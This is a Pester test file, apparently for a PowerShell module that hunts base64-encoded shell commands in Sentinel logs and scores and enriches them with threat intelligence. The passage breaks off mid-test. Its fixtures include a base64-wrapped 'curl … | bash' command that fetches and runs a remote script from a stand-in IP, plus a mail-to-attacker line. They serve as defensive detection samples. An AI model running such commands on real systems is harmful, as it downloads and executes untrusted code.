# Issue 19: what a Sentinel hunter who lives in pwsh expects at the prompt and in runbooks.
BeforeAll {
    Import-Module $env:B64HUNT_MODULE -Force
    $script:Work = Join-Path ([System.IO.Path]::GetTempPath()) ("b64prompt-" + [guid]::NewGuid())
    New-Item -ItemType Directory -Path $Work | Out-Null
    $script:Payload = 'echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYS5zaCB8IGJhc2g= | base64 -d | bash'
}
AfterAll { Remove-Item -Recurse -Force $Work -ErrorAction SilentlyContinue }

Describe 'KQL-style spans' {
    It 'reads 7d, 12h, 30m and 45s as days, hours, minutes and seconds' {
        $cmd = Get-Command Measure-B64Score
        $attr = $cmd.Parameters['AlertWindow'].Attributes | Where-Object { $_ -is [System.Management.Automation.ArgumentTransformationAttribute] }
        $attr | Should -Not -BeNullOrEmpty
        foreach ($case in @(@('7d', [timespan]::FromDays(7)), @('12h', [timespan]::FromHours(12)), @('30m', [timespan]::FromMinutes(30)), @('45s', [timespan]::FromSeconds(45)), @('1.00:00:00', [timespan]::FromDays(1)))) {
            $attr.Transform($ExecutionContext, $case[0]) | Should -Be $case[1]
        }
    }

    It 'scores with -AlertWindow 30m as with a 30-minute TimeSpan' {
        # The notebook model counts each alert inside the window at its full severity, so the window alone decides.
        $e = [B64Hunt.Model.CommandEvent]@{ DecodedCommand = 'id'; CommandLine = 'x'; Computer = 'web1'; TimeGenerated = [datetime]'2024-05-01T10:00:00Z' }
        $near = [B64Hunt.Model.RelatedAlert]@{ Computer = 'web1'; AlertName = 'near'; Severity = 'High'; TimeGenerated = [datetime]'2024-05-01T10:20:00Z' }
        $far = [B64Hunt.Model.RelatedAlert]@{ Computer = 'web1'; AlertName = 'far'; Severity = 'High'; TimeGenerated = [datetime]'2024-05-01T11:00:00Z' }
        ($e | Measure-B64Score -Model Notebook -Alert $near, $far -AlertWindow 30m).AlertScore | Should -Be 3
        ($e | Measure-B64Score -Model Notebook -Alert $near, $far -AlertWindow ([timespan]::FromMinutes(30))).AlertScore | Should -Be 3
        ($e | Measure-B64Score -Model Notebook -Alert $near, $far -AlertWindow 2h).AlertScore | Should -Be 6
    }

    It 'refuses a bare number (ticks) and a span under a second, naming the fix' {
        { 'id' | Measure-B64Score -AlertWindow 1 -ErrorAction Stop } | Should -Throw -ExpectedMessage '*no unit*7d, 12h*'
        { 'id' | Measure-B64Score -AlertWindow ([timespan]::FromMilliseconds(5)) -ErrorAction Stop } | Should -Throw -ExpectedMessage '*under a second*'
        { Get-B64RelatedAlert -Sample -Last 7 -ErrorAction Stop } | Should -Throw -ExpectedMessage '*no unit*'
        { Get-B64RelatedAlert -Sample -Last '7x' -ErrorAction Stop } | Should -Throw -ExpectedMessage "*Cannot read '7x'*"
    }

    It 'reads unquoted 7d and 30s (PowerShell number literals: decimal 7, short 30) as days and seconds' {
        $attr = (Get-Command Get-B64RelatedAlert).Parameters['Last'].Attributes | Where-Object { $_ -is [System.Management.Automation.ArgumentTransformationAttribute] }
        $attr.Transform($ExecutionContext, 7d) | Should -Be ([timespan]::FromDays(7))
        $attr.Transform($ExecutionContext, 30s) | Should -Be ([timespan]::FromSeconds(30))
        { $attr.Transform($ExecutionContext, 7) } | Should -Throw -ExpectedMessage '*no unit*'
        { $attr.Transform($ExecutionContext, 7l) } | Should -Throw -ExpectedMessage '*no unit*'
    }

    It 'refuses an unquoted 0.5s (PowerShell rounds it to a short 0) instead of a silent zero window, and reads it quoted' {
        { 'id' | Measure-B64Score -AlertWindow 0.5s -ErrorAction Stop } | Should -Throw -ExpectedMessage "*unquoted 0s*Write 0 for a zero span, or quote a fraction: '1.5s'*"
        { Get-B64RelatedAlert -Sample -Last 0s -ErrorAction Stop } | Should -Throw -ExpectedMessage '*unquoted 0s*'
        { 'id' | Measure-B64Score -AlertWindow '0.5s' -ErrorAction Stop } | Should -Throw -ExpectedMessage '*under a second*'
        $attr = (Get-Command Measure-B64Score).Parameters['AlertWindow'].Attributes | Where-Object { $_ -is [System.Management.Automation.ArgumentTransformationAttribute] }
        $attr.Transform($ExecutionContext, '1.5s') | Should -Be ([timespan]::FromMilliseconds(1500))
        $attr.Transform($ExecutionContext, 0) | Should -Be ([timespan]::Zero)
    }

    It 'accepts zero, which Measure-B64Score reads as the same instant' {
        $e = [B64Hunt.Model.CommandEvent]@{ DecodedCommand = 'id'; CommandLine = 'x'; Computer = 'web1'; TimeGenerated = [datetime]'2024-05-01T10:00:00Z' }
        $near = [B64Hunt.Model.RelatedAlert]@{ Computer = 'web1'; AlertName = 'near'; Severity = 'High'; TimeGenerated = [datetime]'2024-05-01T10:20:00Z' }
        ($e | Measure-B64Score -Alert $near -AlertWindow 0 -ErrorAction Stop).AlertScore | Should -Be 0
    }

    It 'takes -Last 7d on Get-B64RelatedAlert and -CacheTtl 6h on Invoke-B64TiLookup' {
        (Get-Command Get-B64RelatedAlert).Parameters['Last'].Attributes.TypeId.Name | Should -Contain 'TimeSpanArgumentAttribute'
        (Get-Command Get-B64Command).Parameters['Last'].Attributes.TypeId.Name | Should -Contain 'TimeSpanArgumentAttribute'
        (Get-Command Invoke-B64TiLookup).Parameters['CacheTtl'].Attributes.TypeId.Name | Should -Contain 'TimeSpanArgumentAttribute'
        @(Get-B64Command -Sample | Get-B64RelatedAlert -Sample -Last 3650d).Count | Should -BeGreaterThan 0
    }
}

Describe 'A malformed record does not stop a runbook' {
    It 'under $ErrorActionPreference = Stop reads the whole sample and warns with the id and file:line' {
        $ErrorActionPreference = 'Stop'
        $events = Get-B64Command -Sample -WarningVariable warned -WarningAction SilentlyContinue
        $ErrorActionPreference = 'Continue'
        $all = Get-B64Command -Sample -ErrorAction SilentlyContinue -ErrorVariable errs
        $events.Count | Should -Be $all.Count
        $errs.FullyQualifiedErrorId | Should -Contain 'MalformedAuomsRecord,B64Hunt.Commands.GetB64CommandCommand'
        $warned | Where-Object { "$_" -match '^MalformedAuomsRecord: .*auoms-syslog\.log:\d+' } | Should -Not -BeNullOrEmpty
    }

    It 'stays an error the user opts into with -ErrorAction Stop on the call' {
        $ErrorActionPreference = 'Stop'
        { Get-B64Command -Sample -ErrorAction Stop } | Should -Throw -ErrorId 'MalformedAuomsRecord*'
    }

    It 'keeps errors that lose data (a missing file) as errors under Stop' {
        $ErrorActionPreference = 'Stop'
        { Get-B64Command -Path (Join-Path $Work 'missing.log') } | Should -Throw -ErrorId 'PathNotFound*'
    }
}

Describe 'Get-B64RelatedAlert -Path and -LiteralPath' {
    BeforeAll {
        $script:AlertDir = Join-Path $Work 'alerts'
        New-Item -ItemType Directory -Path $AlertDir | Out-Null
        $sample = Join-Path (Get-Module B64Hunt).ModuleBase 'data/sample/alerts.csv'
        $script:Bracketed = Join-Path $AlertDir 'alerts[1].csv'
        Copy-Item -LiteralPath $sample -Destination $Bracketed
        New-Item -ItemType Directory -Path (Join-Path $AlertDir 'sub') | Out-Null
    }

    It 'reports a path or pattern that matches nothing as PathNotFound' {
        Get-B64RelatedAlert -Path (Join-Path $AlertDir 'nothing*.csv') -ErrorVariable err -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
        $err.FullyQualifiedErrorId | Should -Be 'PathNotFound,B64Hunt.Commands.GetB64RelatedAlertCommand'
        $err[0].TargetObject | Should -BeLike '*nothing`*.csv'
        $err[0].CategoryInfo.Category | Should -Be 'ObjectNotFound'
    }

    It 'names -LiteralPath when -Path reads an existing bracketed name as a wildcard (Get-B64RelatedAlert and Get-B64Command)' {
        Get-B64RelatedAlert -Path $Bracketed -ErrorVariable err -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
        $err.FullyQualifiedErrorId | Should -Be 'PathNotFound,B64Hunt.Commands.GetB64RelatedAlertCommand'
        $err[0].TargetObject | Should -Be $Bracketed
        "$($err[0])" | Should -BeLike '*exactly that name exists*-LiteralPath*'
        Get-B64Command -Path $Bracketed -ErrorVariable err2 -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
        "$($err2[0])" | Should -BeLike '*exactly that name exists*-LiteralPath*'
        Get-B64RelatedAlert -Path (Join-Path $AlertDir 'alerts[2].csv') -ErrorVariable err3 -ErrorAction SilentlyContinue
        $err3.FullyQualifiedErrorId | Should -Be 'PathNotFound,B64Hunt.Commands.GetB64RelatedAlertCommand'
        "$($err3[0])" | Should -Not -BeLike '*-LiteralPath*'
    }

    It 'reads a bracketed name with -LiteralPath, as many alerts as -Sample' {
        $literal = Get-B64RelatedAlert -LiteralPath $Bracketed
        $literal.Count | Should -Be (Get-B64RelatedAlert -Sample).Count
        $literal.Count | Should -BeGreaterThan 0
        Get-B64RelatedAlert -LiteralPath (Join-Path $AlertDir 'alerts[2].csv') -ErrorVariable err -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
        $err.FullyQualifiedErrorId | Should -Be 'PathNotFound,B64Hunt.Commands.GetB64RelatedAlertCommand'
    }

    It 'reads the files Get-ChildItem -Recurse pipes (binding PSPath to -LiteralPath), skipping its directories' {
        $alerts = Get-ChildItem -LiteralPath $AlertDir -Recurse | Get-B64RelatedAlert -ErrorVariable err -ErrorAction SilentlyContinue
        $err | Should -BeNullOrEmpty
        $alerts.Count | Should -Be (Get-B64RelatedAlert -Sample).Count
        $alerts.Count | Should -BeGreaterThan 0
    }

    It 'reports a missing -LiteralPath once when events are piped beside it, and filters the file by their hosts' {
        $events = @(Get-B64Command -Sample -WarningAction SilentlyContinue -ErrorAction SilentlyContinue)
        $events.Count | Should -BeGreaterThan 1
        $null = $events | Get-B64RelatedAlert -LiteralPath (Join-Path $AlertDir 'none.csv') -ErrorVariable err -ErrorAction SilentlyContinue
        @($err).Count | Should -Be 1
        $err[0].FullyQualifiedErrorId | Should -Be 'PathNotFound,B64Hunt.Commands.GetB64RelatedAlertCommand'
        ($events | Get-B64RelatedAlert -LiteralPath $Bracketed).Count | Should -Be ($events | Get-B64RelatedAlert -Sample).Count
    }

    It 'skips the directories a wildcard matches, reading the files' {
        $alerts = Get-B64RelatedAlert -Path (Join-Path $AlertDir '*') -ErrorVariable err -ErrorAction SilentlyContinue
        $err | Should -BeNullOrEmpty
        $alerts.Count | Should -Be (Get-B64RelatedAlert -Sample).Count
    }
}

Describe 'Get-B64Command and directories' {
    It 'skips the directories Get-ChildItem -Recurse pipes, as Select-String does, and reads the files' {
        $logs = Join-Path $Work 'logs'
        New-Item -ItemType Directory -Path (Join-Path $logs 'a/b') -Force | Out-Null
        Set-Content -LiteralPath (Join-Path $logs 'a/b/cmd.csv') -Value @('CommandLine,Computer', "`"$Payload`",web1")
        $events = Get-ChildItem $logs -Recurse | Get-B64Command -ErrorVariable err -ErrorAction SilentlyContinue
        $err | Should -BeNullOrEmpty
        $events.DecodedCommand | Should -Be 'curl -s http://203.0.113.7/a.sh | bash'
    }

    It 'still reports a directory named on its own and a missing file' {
        Get-B64Command -Path $Work -ErrorVariable err -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
        $err.FullyQualifiedErrorId | Should -Be 'PathIsDirectory,B64Hunt.Commands.GetB64CommandCommand'
        Get-B64Command -LiteralPath (Join-Path $Work 'none.log') -ErrorVariable err2 -ErrorAction SilentlyContinue
        $err2.FullyQualifiedErrorId | Should -Be 'PathNotFound,B64Hunt.Commands.GetB64CommandCommand'
    }
}

Describe 'A file in no known format is said so' {
    BeforeAll {
        $script:Sample = Join-Path (Get-Module B64Hunt).ModuleBase 'data/sample/auoms-syslog.log'
        $script:Elf = Join-Path $Work 'tool.bin'
        $bytes = [byte[]]::new(4096); [System.Random]::new(19).NextBytes($bytes)
        $bytes[0] = 0x7f; $bytes[1] = [byte][char]'E'; $bytes[2] = [byte][char]'L'; $bytes[3] = [byte][char]'F'
        [System.IO.File]::WriteAllBytes($Elf, $bytes)
        $script:Prose = Join-Path $Work 'notes.txt'
        Set-Content -LiteralPath $Prose -Value @('The quick brown fox jumps over the lazy dog.', 'Meeting notes: rotate the keys on Friday.')
    }

    It 'warns FormatNotRecognized with the path for an ELF binary and for prose' {
        foreach ($file in $Elf, $Prose) {
            Get-B64Command -Path $file -WarningVariable w -WarningAction SilentlyContinue | Should -BeNullOrEmpty
            @($w | Where-Object { "$_" -like "FormatNotRecognized: $file*-Format*" }).Count | Should -Be 1
        }
    }

    It 'does not warn for AUOMS syslog whose commands carry no payload, nor for the sample' {
        $clean = Join-Path $Work 'clean.log'
        Get-Content -LiteralPath $Sample | Where-Object { $_ -like '*AUOMS_EXECVE*' -and $_ -notlike '*base64*' } | Select-Object -First 20 | Set-Content -LiteralPath $clean
        Get-B64Command -Path $clean -WarningVariable w -WarningAction SilentlyContinue | Should -BeNullOrEmpty
        $w | Should -BeNullOrEmpty
        $null = Get-B64Command -Sample -WarningVariable w2 -WarningAction SilentlyContinue -ErrorAction SilentlyContinue
        $w2 | Where-Object { "$_" -like 'FormatNotRecognized*' } | Should -BeNullOrEmpty
    }

    It 'does not warn for an empty file or when -Format is forced' {
        $empty = Join-Path $Work 'empty.log'; Set-Content -LiteralPath $empty -Value $null
        Get-B64Command -Path $empty -WarningVariable w -WarningAction SilentlyContinue | Should -BeNullOrEmpty
        Get-B64Command -Path $Prose -Format AuomsSyslog -WarningVariable w3 -WarningAction SilentlyContinue | Should -BeNullOrEmpty
        @($w) + @($w3) | Where-Object { "$_" -like 'FormatNotRecognized*' } | Should -BeNullOrEmpty
    }
}

Describe 'Invoke-B64TiLookup: -IocType checked as Find-B64Ioc checks it, nothing looked up said, -WhatIf' {
    BeforeAll {
        $script:SavedTi = @{}
        foreach ($name in 'B64HUNT_CONFIG', 'B64HUNT_CACHE', 'MSTICPYCONFIG', 'B64HUNT_OTX_KEY', 'B64HUNT_VT_KEY', 'B64HUNT_XFORCE_ID', 'B64HUNT_XFORCE_KEY') {
            $SavedTi[$name] = [Environment]::GetEnvironmentVariable($name)
            [Environment]::SetEnvironmentVariable($name, $null)
        }
        $env:B64HUNT_CONFIG = Join-Path $Work 'no-config.yaml'
        $env:B64HUNT_CACHE = Join-Path $Work 'ti-cache'
        $script:Feed = Join-Path $Work 'feed.csv'
        @('Indicator,Type,Severity,Description', '45.9.148.35,ipv4,high,C2') | Set-Content -LiteralPath $Feed
        function script:New-IocEvent([string[]] $Pairs) {
            $e = [B64Hunt.Model.CommandEvent]@{ CommandLine = 'x'; DecodedCommand = 'curl' }
            foreach ($pair in $Pairs) { $t, $v = $pair -split '=', 2; $e.Iocs.Add([B64Hunt.Model.Ioc]@{ Type = $t; Value = $v; Normalized = $v }) }
            $e
        }
        # An OTX stand-in on 127.0.0.1 that answers 404 (not found) to every request and logs the paths it was asked.
        $probe = [System.Net.Sockets.TcpListener]::new([System.Net.IPAddress]::Loopback, 0)
        $probe.Start(); $port = $probe.LocalEndpoint.Port; $probe.Stop()
        $script:OtxUrl = "http://127.0.0.1:$port/"
        $script:Listener = [System.Net.HttpListener]::new(); $Listener.Prefixes.Add($OtxUrl); $Listener.Start()
        $script:Asked = [System.Collections.ArrayList]::Synchronized([System.Collections.ArrayList]::new())
        $script:Server = [powershell]::Create()
        $null = $Server.AddScript({
            param($Listener, $Asked)
            while ($Listener.IsListening) {
                try { $ctx = $Listener.GetContext() } catch { break }
                $null = $Asked.Add($ctx.Request.Url.AbsolutePath)
                $bytes = [System.Text.Encoding]::UTF8.GetBytes('{"detail": "Not found."}')
                $ctx.Response.StatusCode = 404; $ctx.Response.ContentType = 'application/json'
                $ctx.Response.OutputStream.Write($bytes, 0, $bytes.Length); $ctx.Response.Close()
            }
        }).AddArgument($Listener).AddArgument($Asked)
        $script:ServerHandle = $Server.BeginInvoke()
    }
    AfterAll {
        $Listener.Stop(); $Listener.Close(); $Server.Dispose()
        foreach ($pair in $SavedTi.GetEnumerator()) { [Environment]::SetEnvironmentVariable($pair.Key, $pair.Value) }
    }

    It 'refuses -IocType ip on both cmdlets with the same list' {
        { 'x' | Invoke-B64TiLookup -LocalFeed $Feed -IocType ip } | Should -Throw -ErrorId 'ParameterArgumentValidationError,B64Hunt.Commands.InvokeB64TiLookupCommand' -ExpectedMessage "*'ip' is not an indicator type*"
        { 'x' | Find-B64Ioc -IocType ip } | Should -Throw -ErrorId 'ParameterArgumentValidationError,B64Hunt.Commands.FindB64IocCommand' -ExpectedMessage "*'ip' is not an indicator type*"
        (New-IocEvent 'ipv4=45.9.148.35' | Invoke-B64TiLookup -LocalFeed $Feed -IocType IPv4).TiResults.Severity | Should -Be 'High'
    }

    It 'says nothing was looked up when the input carries no indicator, and how to fix it' {
        $out = '45.9.148.35' | Invoke-B64TiLookup -LocalFeed $Feed -WarningVariable w -WarningAction SilentlyContinue
        $out.TiResults | Should -BeNullOrEmpty
        "$w" | Should -BeLike 'NothingLookedUp: none of the 1 input object(s) carries an indicator*Find-B64Ioc | Invoke-B64TiLookup*'
    }

    It 'does not say so when indicators were looked up' {
        $out = '45.9.148.35' | Find-B64Ioc | Invoke-B64TiLookup -LocalFeed $Feed -WarningVariable w -WarningAction SilentlyContinue
        $out.TiResults.Severity | Should -Be 'High'
        $w | Should -BeNullOrEmpty
    }

    It '-WhatIf lists what would go to which provider and sends nothing' {
        $key = ConvertTo-SecureString 'k' -AsPlainText -Force
        $events = New-IocEvent 'ipv4=45.9.148.35', 'dns=evil-domain.com', 'ipv4=10.0.0.5'
        $Asked.Clear()
        # What-if lines go to the host, not to a stream: run the call in a child pwsh and read its console.
        $child = Join-Path $Work 'whatif.ps1'
        Set-Content -LiteralPath $child -Value @'
param($Module, $Url)
Import-Module $Module
$e = [B64Hunt.Model.CommandEvent]@{ CommandLine = 'x'; DecodedCommand = 'curl' }
foreach ($pair in 'ipv4=45.9.148.35', 'dns=evil-domain.com', 'ipv4=10.0.0.5') { $t, $v = $pair -split '=', 2; $e.Iocs.Add([B64Hunt.Model.Ioc]@{ Type = $t; Value = $v; Normalized = $v }) }
$out = $e | Invoke-B64TiLookup -Provider OTX -ApiKey @{ OTX = (ConvertTo-SecureString 'k' -AsPlainText -Force) } -Endpoint @{ OTX = $Url } -NoCache -WhatIf
"results: $($out.TiResults.Count)"
'@
        Push-Location $PSScriptRoot
        try { $text = (& dotnet pwsh -NoProfile -NonInteractive -File $child -Module $env:B64HUNT_MODULE -Url $OtxUrl) -join "`n" } finally { Pop-Location }
        $Asked.Count | Should -Be 0
        $text | Should -BeLike '*results: 0*'
        $text | Should -BeLike '*Send 2 indicator(s) to OTX*ipv4:45.9.148.35, dns:evil-domain.com*'
        $text | Should -Not -BeLike '*10.0.0.5*'
        # Without -WhatIf the same call does send: the preview above is what goes out.
        $events2 = New-IocEvent 'ipv4=45.9.148.35', 'dns=evil-domain.com', 'ipv4=10.0.0.5'
        $null = $events2 | Invoke-B64TiLookup -Provider OTX -ApiKey @{ OTX = $key } -Endpoint @{ OTX = $OtxUrl } -NoCache
        $Asked.Count | Should -Be 2
    }
}

Describe 'Indicators: a connection string is not an e-mail address' {
    It 'reads postgres://user@host:5432/db as a login on a host, not an email' {
        $iocs = 'psql postgres://analyst@db.contoso-shop.com:5432/orders' | Find-B64Ioc -Expand
        $iocs.Type | Should -Not -Contain 'email'
        ($iocs | Where-Object Type -eq 'dns').Normalized | Should -Contain 'db.contoso-shop.com'
        ('mongo mongodb://root@203.0.113.40/admin' | Find-B64Ioc -Expand).Type | Should -Not -Contain 'email'
        ('ssh admin@203.0.113.41:22' | Find-B64Ioc -Expand).Type | Should -Not -Contain 'email'
    }

    It 'still finds a real address beside them' {
        $iocs = 'echo done | mail -s x attacker@protonmail.com; curl https://user@evil-host.com/a' | Find-B64Ioc -Expand
        ($iocs | Where-Object Type -eq 'email').Normalized | Should -Be 'attacker@protonmail.com'
    }
}

Describe 'The KeyVault warning is said once a session' {
    It 'warns on the first call and not on the next ones' {
        $saved = $env:MSTICPYCONFIG, $env:B64HUNT_CONFIG
        try {
            $env:B64HUNT_CONFIG = Join-Path $Work 'none.yaml'
            $env:MSTICPYCONFIG = Join-Path $Work ("msticpy-" + [guid]::NewGuid() + '.yaml')
            Set-Content -LiteralPath $env:MSTICPYCONFIG -Value @(
                'TIProviders:', '  OTX:', '    Args:', '      AuthKey:', '        KeyVault:', '    Primary: True', '    Provider: "OTX"')
            $null = Get-B64TiProvider -WarningVariable first -WarningAction SilentlyContinue
            $null = Get-B64TiProvider -WarningVariable second -WarningAction SilentlyContinue
            $null = 'x' | Invoke-B64TiLookup -WarningVariable third -WarningAction SilentlyContinue
            @($first | Where-Object { "$_" -like '*Key Vault secret*' }).Count | Should -Be 1
            @($second) + @($third) | Where-Object { "$_" -like '*Key Vault secret*' } | Should -BeNullOrEmpty
        }
        finally { $env:MSTICPYCONFIG, $env:B64HUNT_CONFIG = $saved }
    }
}

Describe 'Day-first dates follow the session culture or -DateFormat' {
    BeforeAll {
        function script:In-Culture([string] $Name, [scriptblock] $Script) {
            $saved = [System.Threading.Thread]::CurrentThread.CurrentCulture
            try { [System.Threading.Thread]::CurrentThread.CurrentCulture = $Name; & $Script }
            finally { [System.Threading.Thread]::CurrentThread.CurrentCulture = $saved }
        }
        function script:Utc([int] $Y, [int] $Mo, [int] $D, [int] $H, [int] $Mi, [int] $S, [int] $Ms = 0) { [datetime]::new($Y, $Mo, $D, $H, $Mi, $S, $Ms, [DateTimeKind]::Utc) }
        $script:Row = { param($Time) [pscustomobject]@{ CommandLine = $Payload; Computer = 'web1'; TimeGenerated = $Time } }
    }

    It 'reads 02.10.2026 13:01:12 as 2 October in de-DE and 13.10.2026 as 13 October' {
        In-Culture 'de-DE' {
            (& $Row '02.10.2026 13:01:12' | Get-B64Command).TimeGenerated | Should -Be (Utc 2026 10 2 13 1 12)
            (& $Row '13.10.2026 08:00:00' | Get-B64Command).TimeGenerated | Should -Be (Utc 2026 10 13 8 0 0)
        }
    }

    It 'reads 02/10/2026 month-first in en-US, and ISO 8601 and the portal AM/PM form the same in every culture' {
        In-Culture 'en-US' { (& $Row '02/10/2026 13:01:12' | Get-B64Command).TimeGenerated.Month | Should -Be 2 }
        foreach ($culture in 'de-DE', 'en-US', 'en-GB') {
            In-Culture $culture {
                (& $Row '2026-10-02T13:01:12.250Z' | Get-B64Command).TimeGenerated | Should -Be (Utc 2026 10 2 13 1 12 250)
                (& $Row '10/1/2026, 12:00:00.000 PM' | Get-B64Command).TimeGenerated | Should -Be (Utc 2026 10 1 12 0 0)
            }
        }
    }

    It 'reads an explicit -DateFormat whatever the culture, and refuses text it does not match' {
        In-Culture 'en-US' {
            (& $Row '02.10.2026 13:01' | Get-B64Command -DateFormat 'dd.MM.yyyy HH:mm').TimeGenerated | Should -Be (Utc 2026 10 2 13 1 0)
            $e = & $Row '2026/10/02' | Get-B64Command -DateFormat 'dd.MM.yyyy HH:mm' -ErrorVariable err -ErrorAction SilentlyContinue
            $e.TimeGenerated | Should -BeNullOrEmpty
            $err.FullyQualifiedErrorId | Should -Be 'InvalidTimeGenerated,B64Hunt.Commands.GetB64CommandCommand'
        }
    }

    It 'refuses 13.10.2026 in en-US, naming the culture and -DateFormat, instead of guessing' {
        In-Culture 'en-US' {
            $e = & $Row '13.10.2026 08:00:00' | Get-B64Command -ErrorVariable err -ErrorAction SilentlyContinue
            $e.DecodedCommand | Should -Be 'curl -s http://203.0.113.7/a.sh | bash'
            $e.TimeGenerated | Should -BeNullOrEmpty
            "$($err[0])" | Should -BeLike '*en-US*-DateFormat*'
        }
    }
}

Describe 'Text followed by control bytes in a trailing comment is text' {
    BeforeAll {
        function script:Encode([byte[]] $Bytes) { 'echo ' + [Convert]::ToBase64String($Bytes) + ' | base64 -d | bash' }
        $script:Script = [System.Text.Encoding]::ASCII.GetBytes('curl -s http://203.0.113.7/a.sh | bash ')
    }

    It 'classifies the text and tags its binaries, keeping the tail escaped' {
        $e = Encode ($Script + [byte[]](0x23, 0x01, 0x02, 0x7f, 0x00, 0x1b)) | Get-B64Command | Add-B64Category | Add-GtfoBinsTag
        $e.IsBinary | Should -BeFalse
        $e.DecodedCommand | Should -BeLike 'curl -s http://203.0.113.7/a.sh | bash #\x01\x02\x7f\x00*'
        $e.Categories | Should -Contain 'Network connections/Downloading'
        $e.GtfoBins.Name | Should -Contain 'curl'
    }

    It 'keeps control bytes that are not in a final comment, or a long binary tail, as binary' {
        # No text event comes out of them (the decoder keeps them as binary or drops them as noise).
        Encode ($Script + [byte[]](0x01, 0x02, 0x7f, 0x00, 0x1b)) | Get-B64Command | Where-Object { -not $_.IsBinary } | Should -BeNullOrEmpty
        $long = [byte[]]::new(200); [System.Random]::new(7).NextBytes($long)
        (Encode ($Script + [byte[]](0x23) + $long) | Get-B64Command).IsBinary | Should -BeTrue
        Encode ([byte[]](0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00) * 8 + [byte[]](0x23, 0x01)) | Get-B64Command | Where-Object { -not $_.IsBinary } | Should -BeNullOrEmpty
    }
}

Describe 'Deserialized objects (Import-Clixml, Receive-Job) are accepted by every cmdlet' {
    BeforeAll {
        $script:Feed = Join-Path (Get-Module B64Hunt).ModuleBase 'data/sample/ti-feed.csv'
        $script:Live = Get-B64Command -Sample -ErrorAction SilentlyContinue | Add-B64Category | Add-GtfoBinsTag | Find-B64Ioc |
            Invoke-B64TiLookup -LocalFeed $Feed -WarningAction SilentlyContinue
        $script:LiveAlerts = Get-B64RelatedAlert -Sample
        $script:LiveScores = $Live | Measure-B64Score -Alert $LiveAlerts
        $xml = Join-Path $Work 'hunt.clixml'
        @{ Events = $Live; Alerts = $LiveAlerts; Scores = $LiveScores } | Export-Clixml -LiteralPath $xml
        $script:Saved = Import-Clixml -LiteralPath $xml
    }

    It 'gets property bags from Import-Clixml (the case being fixed)' {
        $Saved.Events[0].pstypenames[0] | Should -Be 'Deserialized.B64Hunt.Model.CommandEvent'
        $Saved.Events[0].psobject.BaseObject | Should -BeOfType ([System.Management.Automation.PSCustomObject])
    }

    It 're-scores a saved hunt to the same ranking, with saved alerts given to -Alert' {
        $again = $Saved.Events | Measure-B64Score -Alert $Saved.Alerts
        $again.DecodedCommand | Should -Be $LiveScores.DecodedCommand
        $again.TotalScore | Should -Be $LiveScores.TotalScore
        ($again | Where-Object SevScore -gt 0) | Should -Not -BeNullOrEmpty
    }

    It 're-scores saved CommandScores (their Events) and reports them' {
        ($Saved.Scores | Measure-B64Score -Alert $Saved.Alerts).TotalScore | Should -Be $LiveScores.TotalScore
        $html = Join-Path $Work 'saved.html'
        $Saved.Scores | Show-B64Timeline -Alert $Saved.Alerts -OutFile $html -ErrorVariable err
        $err | Should -BeNullOrEmpty
        (Get-Content -Raw -LiteralPath $html) | Should -BeLike "*$([System.Net.WebUtility]::HtmlEncode($LiveScores[0].DecodedCommand.Substring(0, 20)))*"
    }

    It 'enriches deserialized events from a job (Receive-Job) in every enrichment cmdlet' {
        $job = Start-Job -ScriptBlock { param($m) Import-Module $m; 'echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYS5zaCB8IGJhc2g= | base64 -d | bash' | Get-B64Command } -ArgumentList $env:B64HUNT_MODULE
        $received = $job | Wait-Job -Timeout 120 | Receive-Job
        $job | Remove-Job -Force
        $received.pstypenames[0] | Should -Be 'Deserialized.B64Hunt.Model.CommandEvent'
        $e = $received | Add-B64Category | Add-GtfoBinsTag | Find-B64Ioc -ErrorVariable err
        $err | Should -BeNullOrEmpty
        $e | Should -BeOfType ([B64Hunt.Model.CommandEvent])
        $e.Categories | Should -Contain 'Network connections/Downloading'
        $e.Iocs.Normalized | Should -Contain '203.0.113.7'
    }

    It 'still refuses an arbitrary object with UnsupportedInputObject' {
        [pscustomobject]@{ Name = 'x' } | Add-B64Category -ErrorVariable err -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
        $err.FullyQualifiedErrorId | Should -Be 'UnsupportedInputObject,B64Hunt.Commands.AddB64CategoryCommand'
    }
}

Describe 'Export-Csv writes list values joined' {
    It 'writes "a; b" for every list of a CommandScore and a CommandEvent, not the list type name' {
        $feed = Join-Path (Get-Module B64Hunt).ModuleBase 'data/sample/ti-feed.csv'
        $events = Get-B64Command -Sample -ErrorAction SilentlyContinue | Add-B64Category | Add-GtfoBinsTag | Find-B64Ioc | Invoke-B64TiLookup -LocalFeed $feed
        $scores = $events | Measure-B64Score -Alert (Get-B64RelatedAlert -Sample)
        $csv = Join-Path $Work 'scores.csv'
        $scores | Export-Csv -LiteralPath $csv
        $text = Get-Content -Raw -LiteralPath $csv
        $text | Should -Not -BeLike '*System.Collections.Generic*'
        $text | Should -Not -BeLike '*JoinedList*'
        $rows = Import-Csv -LiteralPath $csv
        $multi = $scores | Where-Object { $_.Hostnames.Count -ge 2 -and $_.Categories.Count -ge 1 } | Select-Object -First 1
        $row = $rows | Where-Object DecodedCommand -eq $multi.DecodedCommand
        $row.Hostnames | Should -Be ($multi.Hostnames -join '; ')
        $row.Categories | Should -Be ($multi.Categories -join '; ')
        ($events | Select-Object -First 5 | ConvertTo-Csv) -join "`n" | Should -Not -BeLike '*System.Collections.Generic*'
    }

    It 'keeps lists as lists for the pipeline and JSON' {
        $e = 'curl -s http://203.0.113.7/a.sh | bash; crontab -l' | Add-B64Category
        $e.Categories.Count | Should -BeGreaterThan 1
        $e.Categories -contains 'Network connections/Downloading' | Should -BeTrue
        ($e | ConvertTo-Json -Depth 3 | ConvertFrom-Json).Categories.Count | Should -Be $e.Categories.Count
    }
}

Describe 'Console timeline fits the console' {
    BeforeAll {
        $script:Scores = Get-B64Command -Sample -ErrorAction SilentlyContinue | Add-B64Category | Measure-B64Score -Alert (Get-B64RelatedAlert -Sample)
        $long = [B64Hunt.Model.CommandEvent]@{ DecodedCommand = 'id -a'; CommandLine = 'x'; Computer = 'aks-nodepool1-12345678-vmss000003'; TimeGenerated = [datetime]'2026-10-02T10:00:00Z' }
